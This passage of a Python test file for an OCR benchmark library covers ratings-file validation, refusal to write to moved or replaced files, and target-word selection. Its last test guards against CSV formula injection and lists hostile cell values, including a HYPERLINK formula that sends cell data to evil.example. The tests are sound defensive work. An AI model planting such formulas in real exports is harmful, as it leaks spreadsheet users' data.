    for big in ("1" + "0" * 400, "9" * 39, "-" + "9" * 30):
        write_csv(f, f"page,rater,score\np1,a,{big}\n")
        with pytest.raises(RatingsError, match="outside 0-10"):
            load_ratings(f)


def test_ratings_log_refuses_a_moved_or_replaced_file(tmp_path):
    from inkground_lib.pseudo.raters import RatingsFileGone
    from inkground_lib.pseudo.ratings_log import RatingsLog

    f = tmp_path / "r.csv"
    log = RatingsLog(f)
    rate_rows(log, [("p1", "ann", 10)])
    f.rename(tmp_path / "moved.csv")
    with pytest.raises(RatingsFileGone, match="is gone .* nothing was saved"):
        rate_rows(log, [("p2", "ann", 10)])
    assert not f.exists()
    with pytest.raises(RatingsFileGone):
        log.refresh()
    f.write_text((tmp_path / "moved.csv").read_text())
    with pytest.raises(RatingsFileGone, match="replaced by another file"):
        rate_rows(log, [("p2", "ann", 10)])
    f.unlink()
    (tmp_path / "moved.csv").rename(f)
    rate_rows(log, [("p2", "ann", 10)])
    assert len(read_ratings(f)) == 2
    f.write_text(f.read_text().splitlines()[0] + "\n")  # cut (an editor rewrote it): refused, not appended to
    with pytest.raises(RatingsFileGone):
        rate_rows(log, [("p3", "ann", 10)])


def test_the_benchmark_keeps_only_targets_and_records_how_many_it_left_out(synth_ds, tmp_path):
    """Issue 26, case 8: one answer was scored against several references ("Thank" three times on a page). The
    builder keeps only words whose text occurs once on their page, records how many it left out and the rule."""
    import dataclasses

    from inkground_lib.components.targets import TARGET_RULE

    ds = load_dataset(synth_ds)
    pseudo = derender_dataset(ds, "skeleton", tmp_path / "run", progress=False)
    kept = [p.id for p in ds.pages]
    before = load_dataset(build_benchmark(ds, pseudo, kept, tmp_path / "b0", meta={"derenderer": "skeleton"}))
    n0 = before.meta["non_target_words"]
    p0 = ds.pages[0]
    a, b = p0.words[0], p0.words[1]
    assert {w.id for w in before.page(p0.id).words} >= {a.id, b.id}  # both were targets
    words = [dataclasses.replace(b, text=a.text.upper() + "!") if w.id == b.id else w for w in p0.words]
    ds.pages[0] = dataclasses.replace(p0, words=words)  # the same word twice on one page: "Thank" / "THANK!"
    out = load_dataset(build_benchmark(ds, pseudo, kept, tmp_path / "b1", meta={"derenderer": "skeleton"}))
    assert out.meta["non_target_words"] == n0 + 2 and out.meta["target_rule"] == TARGET_RULE
    ids = {w.id for w in out.page(p0.id).words}
    assert a.id not in ids and b.id not in ids and out.n_words == before.n_words - 2


def test_section_02s_word_table_is_inert_in_a_spreadsheet_and_reads_back_exactly(synth_ds, tmp_path):
    """Issue 44 (CSV formula injection): section 02's words.csv, which the results archive holds, carries each
    word's OCR readings; a reading (or a text) beginning with ``=`` began a cell of it on ed2f909, a formula in a
    reviewer's spreadsheet. Now such a cell is written behind a quote, and the rating app's loader reads the run."""
    import csv

    from inkground_lib.core.csv_cells import read_csv
    from inkground_lib.core.run_files import words_csv
    from inkground_lib.core.run_loaders import load_pseudo_run

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1)", "+1", "-x"]
    engine = ScriptedEngine(crop_text=lambda i: hostile[i % len(hostile)],
                            render_text=lambda i: hostile[i % len(hostile)])
    r = run_pseudo_labels(synth_ds, tmp_path / "run", derenderer=CountingDerenderer(), ocr=engine, progress=False)
    with open(words_csv(r.run_dir), newline="") as f:
        cells = [c for row in csv.DictReader(f) for k, c in row.items() if k in ("ocr_original", "ocr_rendered")]
    assert cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
    back = read_csv(words_csv(r.run_dir), dtype={"page": str, "word_id": str}, keep_default_na=False)
    assert set(back["ocr_original"]) == set(hostile) and back["text"].tolist() == r.words["text"].tolist()
    assert load_pseudo_run(r.run_dir).all_pages  # the app's loader reads the run
